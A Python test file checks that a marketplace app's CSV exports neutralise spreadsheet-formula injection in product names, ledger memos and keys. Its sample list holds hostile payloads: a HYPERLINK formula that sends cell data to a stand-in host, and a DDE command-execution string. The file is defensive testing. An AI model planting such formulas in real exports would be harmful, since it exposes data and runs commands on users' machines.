"""CSV injection: every CSV the app writes keeps cells that look like formulas inert."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from decimal import Decimal

import pytest
from flask.testing import FlaskClient
from sqlalchemy.orm import Session

from allocation.recount import restore as recount_restore
from market import csvsafe
from market.clock import period_of, utcnow
from market.ledger.services import CLEARING, Move, pool_code, post
from tests.catalog.factories import make_product, make_vendor
from tests.market.factories import make_member

Login = Callable[..., FlaskClient]
NASTY = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'already quoted",
]


def _dangerous(cell: str) -> bool:
    return cell[:1] in csvsafe.TRIGGERS


@pytest.mark.parametrize("text", [*NASTY, "plain", "", "a=b", "12"])
def test_neutralised_cells_are_inert_and_restore_exactly(text: str) -> None:
    cell = csvsafe.neutral(text)
    assert not _dangerous(cell)
    assert csvsafe.restore(cell) == text == recount_restore(cell)


def test_numbers_the_code_writes_stay_numbers() -> None:
    assert csvsafe.neutral(-5) == "-5"
    assert csvsafe.neutral(Decimal("-12.34")) == "-12.34"
    assert csvsafe.neutral("-12.34") == "'-12.34"  # text could be anything a person typed


def test_seat_usage_csv_neutralises_admin_supplied_names(
    client: FlaskClient, session: Session, login: Login
) -> None:
    login(make_member(session, admin=True))
    vendor = make_vendor(session, name="Formula Ltd")
    for i, name in enumerate(NASTY):
        make_product(session, name=f"{name} {i}", vendor=vendor, keys=1)
    body = client.get(f"/admin/catalog/vendors/{vendor.id}/seats.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(body, newline="")))
    assert len(rows) == len(NASTY) + 1
    assert not any(_dangerous(cell) for row in rows for cell in row)
    names = sorted(csvsafe.restore(row[0]) for row in rows[1:])
    assert names == sorted(f"{name} {i}" for i, name in enumerate(NASTY))


def test_ledger_export_neutralises_memos_and_keys_but_keeps_negative_amounts(
    client: FlaskClient, session: Session, login: Login
) -> None:
    period = period_of(utcnow())
    post(session, "@key", "dues", NASTY[4], [Move(CLEARING, pool_code(period), 150)], "usd")
    login(make_member(session, admin=True))
    body = client.get("/admin/ledger/export.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert {r["memo"] for r in rows} == {"'" + NASTY[4]}
    assert {r["key"] for r in rows} == {"'@key"}
    assert sorted(r["amount"] for r in rows) == ["-1.50", "1.50"]
